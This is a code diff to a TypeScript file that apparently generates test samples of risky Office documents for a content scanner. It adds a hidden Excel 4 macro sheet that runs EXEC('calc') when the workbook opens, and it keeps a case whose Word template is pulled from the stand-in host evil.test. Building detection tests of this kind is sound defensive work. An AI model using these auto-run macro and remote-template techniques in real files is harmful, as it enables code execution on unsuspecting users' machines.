@@ -1,4 +1,5 @@
 import { lyingZip } from '../archives.ts';
+import { autoOpen, workbook as binaryWorkbook, formulaCell, MACRO_SHEET, ptg } from '../biff.ts';
 import { compoundFile } from '../compound-file.ts';
 import { docx, paragraph } from '../office-files.ts';
 import { ole1Embedded, ole1Linked, packageData } from '../ole-objects.ts';
@@ -6,7 +7,6 @@ import { oneNoteSection } from '../one-note.ts';
 import { attachment, tnef } from '../tnef.ts';
 import type { Row } from './case.ts';
 import {
-  biff,
   DROPPER,
   doc,
   docm,
@@ -21,6 +21,12 @@ import {
   workbook,
 } from './documents.ts';
 import { eicar, fileCase, madeBy } from './making.ts';
+
+/** A hidden sheet of macros that is run as the workbook is opened: EXEC("calc"). */
+function xlmBook(): Buffer {
+  const exec = formulaCell(0, 0, ptg.text('calc'), ptg.many(110, 1));
+  return binaryWorkbook([{ name: 'Macro1', type: MACRO_SHEET, state: 1, records: [exec] }], [autoOpen()]);
+}
 
 export const DOCUMENT_ROW: Row = {
   name: 'active-documents',
@@ -51,7 +57,7 @@ export const DOCUMENT_ROW: Row = {
         }),
       ),
     ),
-    fileCase('xlm-ole2', 'Excel 4 macros in OLE2', () => file('papers.xls', compoundFile({ Workbook: biff() }))),
+    fileCase('xlm-ole2', 'Excel 4 macros in OLE2', () => file('papers.xls', compoundFile({ Workbook: xlmBook() }))),
     fileCase('remote-template', 'a template from the web', () =>
       file('papers.docx', external('attachedTemplate', 'https://evil.test/x.dotm')),
     ),
